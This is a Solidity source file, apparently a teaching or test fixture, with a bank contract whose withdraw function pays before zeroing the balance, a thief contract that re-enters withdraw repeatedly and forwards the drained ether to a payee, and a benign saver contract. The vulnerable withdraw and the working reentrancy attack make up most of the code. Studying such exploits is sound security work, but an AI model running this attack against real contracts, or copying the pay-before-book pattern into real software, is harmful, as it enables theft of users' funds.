// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

/// Pays out before it books: whoever is paid may come in again.
contract EtherBank {
    mapping(address => uint256) public balanceOf;

    function deposit() external payable {
        balanceOf[msg.sender] += msg.value;
    }

    function withdraw() external {
        uint256 amount = balanceOf[msg.sender];
        (bool ok,) = msg.sender.call{value: amount}("");
        require(ok, "not paid");
        balanceOf[msg.sender] = 0;
    }

    function held() external view returns (uint256) {
        return address(this).balance;
    }
}

contract EtherBankThief {
    EtherBank private bank;
    uint256 private left;

    function rob(EtherBank from, uint256 rounds, address payable payee) external payable {
        (bank, left) = (from, rounds);
        from.deposit{value: msg.value}();
        from.withdraw();
        (bool ok,) = payee.call{value: address(this).balance}("");
        require(ok, "not paid");
    }

    receive() external payable {
        if (msg.sender == address(bank) && left > 0) {
            left--;
            bank.withdraw();
        }
    }
}

/// Withdraws all of its own once, and passes the coins on while it receives them.
contract EtherBankSaver {
    address payable private owner = payable(msg.sender);

    function save(EtherBank bank) external payable {
        bank.deposit{value: msg.value}();
    }

    function leave(EtherBank bank) external {
        bank.withdraw();
    }

    receive() external payable {
        (bool ok,) = owner.call{value: msg.value}("");
        require(ok, "not paid");
    }
}
